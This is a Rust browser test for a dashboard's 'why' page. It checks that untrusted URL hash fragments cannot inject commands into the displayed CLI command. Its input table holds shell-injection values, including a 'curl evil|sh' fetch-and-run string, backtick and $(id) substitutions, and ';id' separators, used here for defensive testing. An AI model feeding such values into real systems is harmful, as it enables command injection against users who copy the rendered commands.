//! Addresses from an untrusted source.

use crate::dashboard::fixture::{join, open};
use crate::dashboard::page::{DESK, Page};

#[tokio::test(flavor = "multi_thread")]
async fn foreign_address_cannot_inject_into_commands() {
    let daemon = open().await;
    join(&daemon, "g", "worker").await;
    let Some(mut page) = Page::open(&daemon.base, "#/why/g/worker", DESK).await else {
        return;
    };
    let command = format!("tenure why --store {} --group g worker", daemon.base);
    page.until_says(".why .command", &command).await;
    for (bad, key) in [
        ("#/why/g/x%3Bcurl%20evil%7Csh", "why/g/x;curl evil|sh"),
        ("#/why/g%60id%60/worker", "why/g`id`/worker"),
        ("#/why/g/%24(id)", "why/g/$(id)"),
        ("#/g/g%3Bid", "g/g;id"),
        ("#/g/g%3Bid/leases", "g/g;id"),
        ("#/g/g%3Bid/sessions", "g/g;id"),
    ] {
        let turn = format!(
            "location.hash = {bad:?}; new Promise((done) => addEventListener('hashchange', () => done(tenure.view.key), {{ once: true }}))"
        );
        assert_eq!(page.eval(&turn).await, key);
        let commands = "document.querySelectorAll('main .command').length";
        assert_eq!(page.eval(commands).await, 0, "{bad}");
    }
    page.assert_clean();
}
